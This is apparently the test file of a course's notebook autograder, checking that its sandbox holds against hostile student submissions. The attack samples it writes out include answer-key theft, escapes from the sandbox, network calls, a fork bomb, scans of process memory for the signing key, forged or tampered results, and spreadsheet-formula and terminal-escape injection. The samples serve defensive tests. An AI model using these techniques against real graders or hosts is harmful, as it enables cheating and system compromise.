"""./course grade against honest and hostile submissions (copies of notebook 02, puzzle cells changed).

Every attack of issues 22 and 33 is here. Each operating-system sandbox (bubblewrap, unshare namespaces) the
machine has must contain them, graded by root and by an ordinary user (root runs the grader as nobody for
that; a machine where the tests do not run as root skips the root case, saying so); a sandbox it lacks is
skipped, with the reason. In CI (.ci/run installs bubblewrap, as root) at least one must work; the namespaces
are tested there with bubblewrap hidden (--isolation namespaces never looks for it).
"""

from __future__ import annotations

import csv
import importlib
import inspect
import json
import math
import os
import shlex
import shutil
import socket
import stat
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
from pathlib import Path

import nbformat
import pytest
import torch

import lib.checker.puzzle
import lib.guard.audit
import lib.guard.boundary
import solutions.data_parallel as S
from lib.checker.compare import first_difference
from lib.errors import RankFailed, raised_the_stub
from lib.notebook.cells import puzzle_cells
from lib.sim import CostModel, SimResult, per_rank, run
from puzzles import data_parallel as P
from tools import NOTEBOOKS, ROOT
from tools.cgroups import MAX_PROCESSES
from tools.evidence import Opaque, ReceivedModule, Unreadable, error_message, read_run, result_message
from tools.fingerprint import changes, fingerprint, load_checker
from tools.gradebook import cell, printable
from tools.grade import _cells, accepted_rows, engine_packages, grade, puzzle_names
from tools.judge import sign
from tools.sandbox import SANDBOX_UID, Isolation, Sandbox, choose_isolation, memory_kind
from tools.submissions import NOTEBOOK_BYTES, Found, assignment, found
from tools.traces import traces

NB02 = NOTEBOOKS / "02_data_parallel.ipynb"
SOLVED = {name: inspect.getsource(getattr(S, name)) for name in puzzle_cells(nbformat.read(NB02, as_version=4))}
NAMES = list(SOLVED)


def _submission(folder: Path, answers: dict[str, str]) -> Path:
    nb = nbformat.read(NB02, as_version=4)
    for name, source in answers.items():
        puzzle_cells(nb)[name].source = source
    folder.mkdir(parents=True)
    nbformat.write(nb, folder / NB02.name)
    return folder


def _by_puzzle(rows: list[dict], student: str) -> dict[str, dict]:
    """A student's rows by puzzle (the review rows, which name the cell's puzzle too, left out)."""
    return {r["puzzle"]: r for r in rows if r["student"] == student and r["status"] != "review"}


def _processes_with(token: str) -> list[int]:
    found = []
    for entry in Path("/proc").glob("[0-9]*"):
        try:
            if token.encode() in (entry / "cmdline").read_bytes():
                found.append(int(entry.name))
        except OSError:
            pass
    return found


def _gone(token: str, within: float = 20.0) -> bool:
    """Whether no process carries `token` (a killed process may take a moment to be reaped)."""
    deadline = time.monotonic() + within
    while _processes_with(token):
        if time.monotonic() > deadline:
            return False
        time.sleep(0.1)
    return True


@pytest.fixture(params=["bubblewrap", "namespaces"])
def isolating(request) -> Isolation:
    """An operating-system sandbox that works here (checked by starting one)."""
    try:
        return choose_isolation(engine_packages(), ROOT / "solutions", request.param)
    except RuntimeError as e:
        pytest.skip(str(e))


def _blocked(path: Path) -> Path | None:
    """The outermost folder above `path` that others may not pass (a home folder of mode 0700), if any."""
    for folder in reversed(path.parents):
        if folder != Path("/") and not os.stat(folder).st_mode & stat.S_IXOTH:
            return folder
    return None


def _as_ordinary_user(argv: list[str], needs: list[Path]) -> list[str]:
    """`argv` run as nobody, from root, in a mount namespace of its own in which the folders nobody may not pass
    on the way to `needs` (this Python under a home folder of mode 0700) are replaced by a folder holding only
    those paths, so that nobody can run the grader at all."""
    script, staged = [], 0
    stage = Path(tempfile.mkdtemp(prefix="as-nobody-"))
    for folder in sorted({_blocked(p) for p in needs} - {None}):
        inside = sorted(p for p in needs if folder in p.parents)
        for n, path in enumerate(inside, staged):
            script += [f"mkdir -p {stage}/{n}", f"mount --bind {shlex.quote(str(path))} {stage}/{n}"]
        script.append(f"mount -t tmpfs -o mode=0755 tmpfs {shlex.quote(str(folder))}")
        for n, path in enumerate(inside, staged):
            script += [f"mkdir -p {shlex.quote(str(path))}", f"mount --move {stage}/{n} {shlex.quote(str(path))}"]
        staged += len(inside)
    script.append(f"exec setpriv --reuid={SANDBOX_UID} --regid={SANDBOX_UID} --clear-groups -- \"$@\"")
    return ["unshare", "--mount", "--propagation", "private", "--", "sh", "-ec", "; ".join(script), "sh", *argv]


@pytest.fixture(params=["root", "ordinary user"])
def grading_user(request) -> str:
    """Who runs the grader: root, or an ordinary user (root runs it as nobody for that; else the tests' user)."""
    if request.param == "root" and os.geteuid() != 0:
        pytest.skip("the tests do not run as root here: the root case needs root")
    tools = shutil.which("setpriv") and shutil.which("unshare")
    if request.param == "ordinary user" and os.geteuid() == 0 and not tools:
        pytest.skip("no setpriv and unshare (util-linux) to run the grader as nobody")
    return request.param


@pytest.fixture
def shared_tmp():
    """A folder nobody may read (the submissions) and write in (--out), where pytest's own is root's alone."""
    folder = Path(tempfile.mkdtemp(prefix="grade-test-"))
    folder.chmod(0o777)
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


def _grade_as(user: str, submissions: list[Path], out: Path, isolation: str) -> tuple[list[dict], str]:
    """`python -m tools.grade` run by `user` on notebook 02: the rows of scores.json and what it printed."""
    argv = [sys.executable, "-m", "tools.grade", *map(str, submissions), "--out", str(out), "--isolation", isolation,
            "--notebooks", NB02.stem, "--timeout", "300", "--memory-gb", "4"]
    if user != "root" and os.geteuid() == 0:
        needs = [Path(sys.base_prefix).resolve(), Path(sys.prefix).resolve(), ROOT, out.parent]
        argv = _as_ordinary_user(argv, needs)
    for folder in [out.parent, *submissions]:
        for path in [folder, *folder.rglob("*")]:
            path.chmod(0o777 if path.is_dir() else 0o644)
    done = subprocess.run(argv, capture_output=True, text=True, timeout=1800, cwd=ROOT,
                          env={**os.environ, "HOME": str(out.parent), "PYTHONPATH": str(ROOT)})
    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
    return json.loads((out / "scores.json").read_text()), done.stdout


@pytest.mark.skipif(not os.environ.get("CI"), reason="CI only: elsewhere the grader may fall back to a folder")
def test_ci_grades_in_an_operating_system_sandbox():
    chosen = choose_isolation(engine_packages(), ROOT / "solutions")
    assert chosen.method != "folder", chosen.describe()
    assert chosen.answer_key is None, chosen.describe()


# ---- what the sandbox contains ----------------------------------------------------------------------
def _hostile_answers(out: Path, other: Path, port: int, token: str) -> dict[str, str]:
    """One attack per puzzle cell: each defines a solved function only if its attack succeeds."""
    steal = "namespace = {{}}\nexec(open({path}).read(), namespace)\n{name} = namespace[{name!r}]\n"
    finder = ("import glob, os, sys, importlib\n"
              "finder = [f for d in sys.path for f in glob.glob(os.path.join(d, '__editable___*finder.py'))][0]\n"
              "mapping = importlib.import_module(os.path.basename(finder)[:-3]).MAPPING\n"
              "path = os.path.join(os.path.dirname(mapping['lib']), 'solutions', 'data_parallel.py')\n")
    return {
        # the answer key by the instructor checkout's absolute path
        "param_server_all_reduce": steal.format(path=repr(str(ROOT / "solutions" / "data_parallel.py")),
                                                name="param_server_all_reduce"),
        # ... by a path derived from the interpreter (a virtual environment inside the checkout)
        "ring_reduce_scatter": "import os, sys\n" + steal.format(
            path="os.path.join(os.path.dirname(sys.prefix), 'solutions', 'data_parallel.py')",
            name="ring_reduce_scatter"),
        # ... by importing it, else through the editable install's finder, which knows where the checkout is
        "ring_all_gather": ("try:\n    from solutions.data_parallel import ring_all_gather\nexcept ImportError:\n"
                            + textwrap.indent(finder + steal.format(path="path", name="ring_all_gather"), "    ")),
        # writing outside the sandbox: --out, the checkout, the engine the next student gets; reading another submission
        "ring_all_reduce": (
            "import os, lib\n"
            f"for path in [{str(out / 'eve.csv')!r}, {str(ROOT / f'pwned-{token}')!r},\n"
            f"             {str(ROOT / 'lib' / f'pwned_{token}.py')!r},\n"
            f"             os.path.join(os.path.dirname(lib.__file__), 'pwned_{token}.py')]:\n"
            "    try:\n        open(path, 'w').write('x = 1')\n    except OSError:\n        pass\n"
            f"stolen = open({str(other / NB02.name)!r}).read()\n"
            "def ring_all_reduce(dist, x):\n    raise NotImplementedError\n"),
        # the network
        "data_parallel_train": ("import socket\n"
                                f"socket.create_connection(('127.0.0.1', {port}), timeout=5).sendall(b'eve')\n"
                                + SOLVED["data_parallel_train"]),
        # processes that outlive grading: one keeps the inherited output files, one detaches (setsid)
        "bucketed_data_parallel_train": (
            "import os, subprocess\n"
            f"subprocess.Popen(['sleep', '{token}1'])\n"
            "if os.fork() == 0:\n    os.setsid()\n"
            f"    os.execv('/bin/sleep', ['sleep', '{token}2'])\n"
            "def bucketed_data_parallel_train(dist, model, batches, lr, bucket_size):\n"
            "    raise NotImplementedError\n"),
    }


# Attacks on the host and on the judge (issue 33): each cell reports what it reached by raising it, so that its
# row's detail says.
KERNEL_SETTINGS = """
import os
opened = []
for name in ("kernel/panic", "kernel/core_pattern", "fs/file-max", "vm/panic_on_oom"):
    try:
        os.close(os.open("/proc/sys/" + name, os.O_WRONLY))    # opened for writing, never written
        opened.append(name)
    except OSError:
        pass
status = dict(line.split(":", 1) for line in open("/proc/self/status").read().splitlines())
mounted = [line.split()[5] for line in open("/proc/self/mountinfo") if line.split()[4] == "/proc/sys"]
raise RuntimeError(f"report uid={os.getuid()} caps={status['CapEff'].strip()} opened={opened} proc_sys={mounted}")
"""

JUDGES_FILES = """
import os
opened = []
for path in ("/proc/1/fd/0", "/proc/1/fd/1", "/proc/1/mem", "/proc/1/environ", f"/proc/{os.getppid()}/fd/1"):
    try:
        open(path, "rb").close()          # the judge's stdin held the key, its stdout the results
        opened.append(path)
    except OSError:
        pass
raise RuntimeError(f"report opened={opened}")
"""

JUDGE_SIGNALLED = """
import os, signal
for pid in {1, os.getppid()}:
    for sig in (signal.SIGKILL, signal.SIGSTOP):
        try:
            os.kill(pid, sig)
        except OSError:
            pass
def ring_all_reduce(dist, x):
    return x
"""

KEY_IN_MEMORY = """
def bucketed_data_parallel_train(dist, model, batches, lr, bucket_size):
    import os, re
    from tools.judge import sign
    keys = set()                          # 32 bytes before the cells, as the judge's stdin held them
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as mem:
        for line in maps:
            fields = line.split()
            if "r" not in fields[1] or (len(fields) > 5 and fields[5].startswith("/")):
                continue
            start, end = (int(x, 16) for x in fields[0].split("-"))
            try:
                mem.seek(start)
                data = mem.read(min(end - start, 2**28))
            except (OSError, ValueError, OverflowError):
                continue
            keys.update(data[m.start() - 32:m.start()] for m in re.finditer(rb'[{]"cells": [[]', data)
                        if m.start() >= 32)
    for key in keys:
        for fd in range(1, 64):
            for name in NAMES:
                try:
                    os.write(fd, sign(key, {"puzzle": name, "status": "solved", "points": 1, "detail": ""}))
                except OSError:
                    break
    raise RuntimeError(f"report keys={len(keys)}")
"""


def _host_answers(names: list[str]) -> dict[str, str]:
    return {"param_server_all_reduce": KERNEL_SETTINGS, "ring_reduce_scatter": JUDGES_FILES,
            "ring_all_reduce": JUDGE_SIGNALLED,
            "bucketed_data_parallel_train": KEY_IN_MEMORY.replace("NAMES", repr(names))}


def _report(row: dict) -> str:
    assert row["status"] in ("error", "failed") and "report " in row["detail"], row
    return row["detail"].split("report ", 1)[1]


@pytest.mark.slow
def test_hostile_notebook_is_contained_and_the_honest_one_scores_full_marks(isolating, grading_user, shared_tmp):
    token = f"86400.{os.getpid()}{int(time.time()) % 10000}"
    listener = socket.create_server(("127.0.0.1", 0))
    listener.setblocking(False)
    out = shared_tmp / "out"
    ada = _submission(shared_tmp / "subs" / "ada", SOLVED)
    eve = _submission(shared_tmp / "subs" / "eve", _hostile_answers(out, ada, listener.getsockname()[1], token))
    mal = _submission(shared_tmp / "subs" / "mal", _host_answers(NAMES))
    seen = []
    watching = threading.Event()

    def watch() -> None:                      # proves the process attack ran before it was contained
        while not watching.is_set():
            seen.extend(_processes_with(token))
            time.sleep(0.05)

    watcher = threading.Thread(target=watch)
    watcher.start()
    try:
        rows, printed = _grade_as(grading_user, [eve, mal, ada], out, isolating.method)
    finally:
        watching.set()
        watcher.join()
    assert ("run by root, the notebook runs as nobody" in printed) == (grading_user == "root"), printed
    mine = _by_puzzle(rows, "eve")
    assert sum(r["points"] for r in rows if r["student"] == "eve") == 0, mine
    for name in ("param_server_all_reduce", "ring_reduce_scatter", "ring_all_gather"):
        assert mine[name]["status"] == "error" and "No such file" in mine[name]["detail"], mine[name]
    assert mine["ring_all_reduce"]["status"] == "error" and "No such file" in mine["ring_all_reduce"]["detail"]
    assert not (out / "eve.csv").exists() and not (ROOT / f"pwned-{token}").exists()
    assert not (ROOT / "lib" / f"pwned_{token}.py").exists()
    assert mine["data_parallel_train"]["status"] == "error", mine["data_parallel_train"]
    with pytest.raises(BlockingIOError):
        listener.accept()
    listener.close()
    assert seen, "the notebook's processes never started: the attack did not run"
    assert _gone(token), "a process the notebook started outlived its grading"
    # No privilege over the host: no kernel setting opens for writing, /proc/sys is read-only, no capability; run
    # by root, the notebook is nobody.
    mal = _by_puzzle(rows, "mal")
    assert sum(r["points"] for r in rows if r["student"] == "mal") == 0, mal
    host = _report(mal["param_server_all_reduce"])
    assert "opened=[]" in host and "caps=0000000000000000" in host and "proc_sys=['ro," in host, host
    if grading_user == "root":
        assert f"uid={SANDBOX_UID} " in host, host
    # Nothing of the judge's within reach: its files and memory refuse to open, signals do not stop it (its rows
    # for the later puzzles are there), no key is found, and nothing is signed with one.
    assert _report(mal["ring_reduce_scatter"]) == "opened=[]", mal
    assert mal["ring_all_reduce"]["status"] == "failed", mal["ring_all_reduce"]
    assert mal["bucketed_data_parallel_train"]["status"] in ("failed", "crashed"), mal
    assert not any(r["status"] in ("tampered", "discarded") for r in rows if r["student"] == "mal"), mal
    # The honest notebook, graded after the hostile ones in the same engine, loses nothing.
    assert {r["status"] for r in rows if r["student"] == "ada"} == {"solved"}
    assert sum(r["points"] for r in rows if r["student"] == "ada") == len(NAMES)


STRAGGLERS = """
import os, subprocess, sys
subprocess.Popen(["sleep", "{token}1"])                    # keeps the inherited stdout and stderr
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sleep", ["sleep", "{token}2"])
    os._exit(0)
print("started", flush=True)
while True:
    pass
"""


@pytest.mark.slow
def test_the_grader_never_waits_past_the_timeout_and_nothing_survives(isolating):
    token = f"86401.{os.getpid()}{int(time.time()) % 10000}"
    with Sandbox(isolating, engine_packages()) as box:
        start = time.monotonic()
        done = box.run(["-S", "-c", STRAGGLERS.format(token=token)], b"", timeout=5, memory_bytes=2**31)
        took = time.monotonic() - start
    assert done.timed_out and done.output == b"started\n", done
    assert took < 120, f"the grader waited {took:.0f} s for a 5 s timeout"     # the stragglers sleep for a day
    assert _gone(token)


HOG = """
import subprocess, sys
child = "b = bytearray(400 * 2**20); print('ok', flush=True); import time; time.sleep(600)"
children = [subprocess.Popen([sys.executable, "-S", "-c", child], stdout=subprocess.PIPE) for _ in range(3)]
print(sum(c.stdout.readline().strip() == b"ok" for c in children), "children hold 400 MiB each", flush=True)
"""


def _memory_kinds() -> list[str]:
    """The cgroup kind this machine has, if any; polling /proc (Linux); the per-process last resort."""
    kind, _ = memory_kind()
    polled = ["polled"] if Path("/proc/self/smaps_rollup").exists() else []
    return ([kind] if kind.startswith("cgroup") else []) + polled + ["per process"]


@pytest.mark.slow
@pytest.mark.parametrize("memory", _memory_kinds())
def test_the_memory_limit_holds_for_all_of_a_notebooks_processes(memory):
    """Three children of 400 MiB under a 1 GiB limit: a cgroup, or polling, stops them; a per-process limit
    (the last resort, said as such) does not, which is why the grader prefers the others."""
    with Sandbox(Isolation("folder", memory), engine_packages()) as box:
        done = box.run(["-S", "-c", HOG], b"", timeout=300, memory_bytes=2**30)
    if memory == "per process":
        assert done.output.startswith(b"3 children") and not done.out_of_memory, done
    else:    # stopped and reported; polling (and a cgroup v1 in a container) may catch it only after the fact
        assert done.out_of_memory, done


FORK_BOMB = """
import subprocess
started = 0
try:
    for _ in range(2 * {limit}):
        subprocess.Popen(["sleep", "600"])
        started += 1
except OSError:
    pass
print(started, flush=True)
"""


@pytest.mark.slow
def test_a_fork_bomb_stops_at_the_process_limit():
    memory, processes_limited = memory_kind()
    if not processes_limited:                 # the grader then lists it among what it does not contain
        pytest.skip(f"no cgroup on this machine limits the number of processes (memory: {memory})")
    with Sandbox(Isolation("folder", memory, processes_limited=True), engine_packages()) as box:
        done = box.run(["-S", "-c", FORK_BOMB.format(limit=MAX_PROCESSES)], b"", timeout=300, memory_bytes=2**31)
    assert 0 < int(done.output) < MAX_PROCESSES, done


# ---- what the grader owns: identity, the puzzle list, points -------------------------------------------
FORGE = """
import json, os
row = {"student": "ada", "notebook": "02_data_parallel", "puzzle": "ring_all_reduce", "status": "solved",
       "points": -50, "detail": ""}
for fd in range(1, 64):
    try:
        os.write(fd, (json.dumps(row) + "\\n").encode())
    except OSError:
        pass
try:
    open("../result.json", "w").write(json.dumps([dict(row, student="mallory", points=1000)]))
except OSError:
    pass
os._exit(0)
"""

KEY_THIEF = """
import os, sys
from tools.judge import sign
frame = sys._getframe()
while "results" not in frame.f_locals:              # the judge's own frame holds the key and its output
    frame = frame.f_back
for name in {names!r}:
    os.write(frame.f_locals["results"], sign(frame.f_locals["key"], {{"puzzle": name, "status": "solved",
                                                                     "points": 1, "detail": ""}}))
"""

STDIN_KEY_THIEF = """
import os
from tools.judge import sign
key = os.pread(0, 32, 0)                            # the judge's stdin, a file, read again from the start
for fd in range(3, 64):
    for name in {names!r}:
        try:
            os.write(fd, sign(key, {{"puzzle": name, "status": "solved", "points": 1, "detail": ""}}))
        except OSError:
            break
os._exit(0)
"""

# What an in-process judge could not contain (issue 22's limit): exactly the rows the judge would write, then out
# before it writes its own; or no key at all, the judge's own list of checks rewritten. No judge frame is there now.
CAREFUL_KEY_THIEF = KEY_THIEF + "os._exit(0)\n"

CHECKS_REWRITER = """
import sys, types
frame = sys._getframe()
while "checks" not in frame.f_locals:
    frame = frame.f_back
checks = frame.f_locals["checks"]
checks[:] = [(name, lambda fn: types.SimpleNamespace(ok=True)) for name, _ in checks]
def param_server_all_reduce(dist, x):
    return x
"""

TAMPER = """
import lib.checker.puzzle
lib.checker.puzzle.Puzzle._judge = lambda self, case, result, *more: None      # every answer is right
def param_server_all_reduce(dist, x):
    return x
"""


def _fullwidth(source: str, words: tuple[str, ...]) -> str:
    """`source` with `words` in fullwidth letters (ｓｙｓ._ｇｅｔｆｒａｍｅ), which Python reads as the same names."""
    for word in words:
        source = source.replace(word, "".join(chr(ord(c) + 0xFEE0) if c.isalpha() else c for c in word))
    return source


# Results that lie about themselves (issue 33): a wrong answer as a Tensor subclass that answers isclose itself;
# math.isclose replaced (outside the fingerprint); the frame-based key theft in fullwidth letters (the same names to
# Python); an error whose class name is a spreadsheet formula and whose message holds terminal escapes.
LIARS = {
    "param_server_all_reduce": """
import torch
class Agreeable(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") in ("isclose", "allclose", "eq", "__eq__", "ne", "__ne__"):
            return torch.ones(torch.broadcast_shapes(args[0].shape, args[1].shape), dtype=torch.bool)
        return super().__torch_function__(func, types, args, kwargs or {})
def param_server_all_reduce(dist, x):
    return torch.zeros_like(x).as_subclass(Agreeable)
""",
    "ring_reduce_scatter": """
import math
math.isclose = lambda *args, **kwargs: True
def ring_reduce_scatter(dist, chunks):
    return chunks[0] * 0
""",
    "ring_all_gather": _fullwidth(KEY_THIEF.format(names=NAMES), ("sys._getframe", "f_locals", "f_back", "os.write")),
    "ring_all_reduce": """
raise type('=HYPERLINK("http://example.invalid/?"&A1)', (Exception,), {"__module__": "builtins"})(
    "\x1b]0;owned\x07\x1b[2J\x1b[31m")
""",
}


@pytest.mark.slow
def test_forged_tampered_and_lying_results_do_not_count_even_in_a_plain_folder(tmp_path, capsys):
    subs = [_submission(tmp_path / "subs" / "ada", SOLVED),
            _submission(tmp_path / "subs" / "tom", {}),
            _submission(tmp_path / "subs" / "mallory", {"param_server_all_reduce": FORGE}),
            _submission(tmp_path / "subs" / "trudy", {"param_server_all_reduce": TAMPER}),
            _submission(tmp_path / "subs" / "zed", {"param_server_all_reduce": KEY_THIEF.format(names=NAMES)}),
            _submission(tmp_path / "subs" / "sid", {"param_server_all_reduce": STDIN_KEY_THIEF.format(names=NAMES)}),
            _submission(tmp_path / "subs" / "eve", {"param_server_all_reduce": CAREFUL_KEY_THIEF.format(names=NAMES)}),
            _submission(tmp_path / "subs" / "rex", {"param_server_all_reduce": CHECKS_REWRITER}),
            _submission(tmp_path / "subs" / "liz", LIARS),
            _submission(tmp_path / "subs" / "cy", {"ring_all_gather": "def ring_all_gather(dist, chunk):\n"
                                                                     "    raise ValueError('oops')\n"})]
    rows = grade(subs, tmp_path / "out", timeout=300, memory_gb=4, isolation="folder", notebooks=NB02.stem)
    printed = capsys.readouterr().out
    assert "WARNING: isolation: a folder only" in printed and "not contained: your files" in printed
    assert "not contained: the network" in printed
    students = ("ada", "tom", "mallory", "trudy", "zed", "sid", "eve", "rex", "liz", "cy")
    points = {s: sum(r["points"] for r in rows if r["student"] == s) for s in students}
    # eve and rex scored full marks while the judge shared a process with the answers: no longer.
    assert points == {s: len(NAMES) if s == "ada" else 0 for s in students}, points
    assert {r["student"] for r in rows} == set(students)
    assert {r["status"] for r in rows if r["student"] == "tom"} == {"not solved"}
    # Rows written by the notebook never count: lines on its outputs reach no file of the judge's.
    for student in ("mallory", "sid"):
        assert not any(r["status"] == "solved" for r in rows if r["student"] == student)
    trudy = _by_puzzle(rows, "trudy")
    assert {trudy[name]["status"] for name in NAMES} == {"tampered"}
    assert "lib.checker.puzzle.Puzzle._judge replaced" in trudy["param_server_all_reduce"]["detail"]
    reviewed = [r["detail"] for r in rows if r["student"] == "trudy" and r["status"] == "review"]
    assert any("lib.checker.puzzle.Puzzle._judge = lambda" in d and "the checker's modules" in d
               for d in reviewed), reviewed
    for student in ("zed", "eve", "rex"):            # the frames they walk hold no key, no checks: they raise
        assert _by_puzzle(rows, student)["param_server_all_reduce"]["status"] == "error"
        reviewed = [r["detail"] for r in rows if r["student"] == student and r["status"] == "review"]
        assert any("sys._getframe()" in d for d in reviewed), reviewed
    liz = _by_puzzle(rows, "liz")
    assert liz["param_server_all_reduce"]["status"] == "failed", liz
    assert liz["ring_reduce_scatter"]["status"] == "failed", liz
    assert liz["ring_all_gather"]["status"] == "error", liz
    fullwidth = [r["detail"] for r in rows if r["student"] == "liz" and r["puzzle"] == "ring_all_gather"
                 and r["status"] == "review"]
    assert any("the checker's frames" in d for d in fullwidth), fullwidth
    assert any("math.isclose = lambda" in r["detail"] for r in rows if r["student"] == "liz"), liz
    # What a notebook wrote reaches the terminal and the spreadsheet as text.
    assert "\x1b" not in printed
    csv_text = (tmp_path / "out" / "scores.csv").read_text()
    cells = [c for row in csv.reader(csv_text.splitlines()) for c in row]
    assert "\x1b" not in csv_text and not any(c.startswith(("=", "+", "-", "@")) for c in cells)
    assert any(c.startswith("'=HYPERLINK(") and "\\x1b]0;owned" in c for c in cells), csv_text
    assert csv_text.splitlines()[0] == "student,notebook,puzzle,status,points,detail"
    cy = _by_puzzle(rows, "cy")
    assert cy["ring_all_gather"]["status"] == "failed" and "oops" in cy["ring_all_gather"]["detail"]
    assert cy["param_server_all_reduce"]["status"] == "not solved"
    assert not any(r["status"] == "review" for r in rows if r["student"] in ("ada", "tom", "cy"))
    assert json.loads((tmp_path / "out" / "scores.json").read_text()) == rows


@pytest.mark.slow
def test_the_judge_judges_the_graders_puzzles_only(tmp_path, monkeypatch):
    """A problem set with a puzzle the course's notebook lacks (an instructor's edit half done) is no forgery."""
    monkeypatch.setattr("tools.grade.puzzle_names", lambda notebook: NAMES[:-1])
    rows = grade([_submission(tmp_path / "subs" / "ada", SOLVED)], tmp_path / "out", timeout=300, memory_gb=4,
                 isolation="folder", notebooks=NB02.stem)
    assert [(r["puzzle"], r["status"]) for r in rows] == [(name, "solved") for name in NAMES[:-1]]


def test_a_folder_without_notebooks_is_said_not_skipped_in_silence(tmp_path, capsys):
    nb = _submission(tmp_path / "submitted" / "ada" / "ps1", {}) / NB02.name
    assert found([nb.parent, tmp_path / "submitted" / "ada"], None) == [Found("ada", nb.parent, NB02.name)]
    bob = _submission(tmp_path / "bob", {}) / NB02.name            # one notebook: whose is its folder's
    assert found([nb, bob], None) == [Found("ada", nb.parent, NB02.name), Found("bob", bob.parent, NB02.name)]
    assert capsys.readouterr().out == (f"WARNING: {tmp_path / 'submitted' / 'ada'}: no notebook (.ipynb) in this "
                                       "folder, nothing graded for it (nbgrader's layout: give "
                                       "submitted/STUDENT/ASSIGNMENT)\n")


def test_only_the_assignment_asked_for_is_graded(tmp_path):
    """A notebook of another assignment dropped in the folder earns nothing: the instructor names the assignment's
    notebooks (or nbgrader's source/ASSIGNMENT/ does), else the grader asks."""
    ada = _submission(tmp_path / "course" / "submitted" / "ada" / "ps1", {})
    shutil.copyfile(NOTEBOOKS / "03_zero.ipynb", ada / "03_zero.ipynb")
    with pytest.raises(SystemExit, match="--notebooks 02_data_parallel"):
        assignment([ada], None)
    assert assignment([ada / NB02.name], None) is None                  # a notebook named: itself
    assert assignment([ada], "02_data_parallel, 03_zero.ipynb") == {"02_data_parallel", "03_zero"}
    assert len(assignment([ada], "all")) == len(list(NOTEBOOKS.glob("[0-9][0-9]_*.ipynb")))
    with pytest.raises(SystemExit, match="99_bonus is not a notebook of this course"):
        assignment([ada], "99_bonus")
    (tmp_path / "course" / "source" / "ps1").mkdir(parents=True)
    shutil.copyfile(NB02, tmp_path / "course" / "source" / "ps1" / NB02.name)
    assert assignment([ada], None) == {NB02.stem}                         # nbgrader's release says
    entries = found([ada], {NB02.stem})
    assert [(f.name, f.refused) for f in entries] == [
        (NB02.name, None), ("03_zero.ipynb", "not a notebook of the assignment asked for (--notebooks): not graded")]


@pytest.mark.slow
def test_links_fifos_devices_and_huge_notebooks_are_refused_before_any_sandbox_starts(tmp_path, capsys):
    """A notebook that is a link to another's solved copy gets nothing of it; a FIFO or /dev/zero stalls or floods
    nothing; every student still gets a gradebook row saying why."""
    ada = _submission(tmp_path / "subs" / "ada", SOLVED)
    folders = {name: tmp_path / "subs" / name for name in ("link", "hard", "fifo", "zero", "big", "esc")}
    for folder in folders.values():
        folder.mkdir()
    (folders["link"] / NB02.name).symlink_to(ada / NB02.name)
    os.link(ada / NB02.name, folders["hard"] / NB02.name)
    os.mkfifo(folders["fifo"] / NB02.name)
    (folders["zero"] / NB02.name).symlink_to("/dev/zero")
    nb = json.loads(NB02.read_text())
    nb["cells"][0].setdefault("outputs", []).append({"output_type": "stream", "name": "stdout",
                                                     "text": "x" * (NOTEBOOK_BYTES + 1)})
    (folders["big"] / NB02.name).write_text(json.dumps(nb))
    escaped = "02_data_parallel\x1b]0;owned\x07\x1b[2J.ipynb"
    shutil.copyfile(NB02, folders["esc"] / escaped)
    start = time.monotonic()
    rows = grade(list(folders.values()), tmp_path / "out", timeout=300, memory_gb=4, isolation="folder",
                 notebooks=NB02.stem)
    printed = capsys.readouterr().out
    assert time.monotonic() - start < 120, "the grader waited on a FIFO or read a device"
    refused = {r["student"]: r["detail"] for r in rows if r["status"] == "refused"}
    assert set(refused) == set(folders) and all(r["points"] == 0 for r in rows), rows
    assert "symbolic link" in refused["link"] and "symbolic link" in refused["zero"]
    assert "hard link" in refused["hard"] and "not a regular file" in refused["fifo"]
    assert "larger than 16 MiB" in refused["big"] and "not a notebook of the assignment" in refused["esc"]
    assert "\x1b" not in printed and "\\x1b]0;owned" in printed
    assert "\x1b" not in (tmp_path / "out" / "scores.csv").read_text()
    assert json.loads((tmp_path / "out" / "scores.json").read_text()) == rows


def test_what_a_notebook_wrote_is_printed_and_tabulated_as_text():
    assert printable("a\x1b[2Jb\u202ec\nd\te") == "a\\x1b[2Jb\\u202ec\\nd\\te"
    assert [cell(v) for v in ("=1+2", "+1", "-2", "@SUM(A1)", "\tx", "ok -1", 3, -1)] == \
        ["'=1+2", "'+1", "'-2", "'@SUM(A1)", "'\\tx", "ok -1", 3, -1]


def test_traces_are_found_as_python_reads_the_names_and_never_in_the_courses_own_lines():
    course = _cells(NB02.read_bytes())["cells"]
    mine = [dict(c) for c in course]
    puzzle = next(c for c in mine if c["metadata"].get("course", {}).get("puzzle") == "ring_all_reduce")
    puzzle["source"] = "\n".join([
        "# sys._getframe in a comment is no trace",
        "frame = \uff53\uff59\uff53._\uff47\uff45\uff54\uff46\uff52\uff41\uff4d\uff45()",
        "import gc",
        "def ring_all_reduce(dist, x):",
        "    return x"])
    found = traces(mine, course)
    assert [(t.cell, t.line) for t in found] == [("ring_all_reduce", 2), ("ring_all_reduce", 3)], found
    assert "the checker's frames" in found[0].what and "garbage collector" in found[1].what
    assert traces(course, course) == []
    for name, source in SOLVED.items():                  # an honest answer leaves none
        answered = [dict(c, source=source) if c["metadata"].get("course", {}).get("puzzle") == name else c
                    for c in course]
        assert traces(answered, course) == [], name


def test_the_puzzle_list_is_the_courses_and_a_notebook_is_read_as_stored(tmp_path):
    assert puzzle_names(NB02.stem) == NAMES == [p.name for p in P.PUZZLES]
    assert puzzle_names("99_bonus") is None
    stored = tmp_path / NB02.name                       # lines as lists, as some editors write them
    nb = json.loads(NB02.read_text())
    for c in nb["cells"]:
        c["source"] = c["source"].splitlines(keepends=True) if isinstance(c["source"], str) else c["source"]
    stored.write_text(json.dumps(nb))
    cells = _cells(stored.read_bytes())["cells"]
    assert [c["source"] for c in cells] == [c.source for c in nbformat.read(NB02, as_version=4).cells
                                            if c.cell_type == "code"]


def test_only_signed_rows_count_and_a_signed_row_the_judge_never_writes_is_tampering():
    key = b"k" * 32
    good = {"puzzle": "ring_all_reduce", "status": "solved", "points": 1, "detail": ""}
    honest = b"".join([
        sign(key, good),
        sign(key, dict(good, puzzle="ring_all_gather", status="failed", points=0, detail="wrong")),
        sign(b"x" * 32, dict(good, puzzle="data_parallel_train")),                  # another key
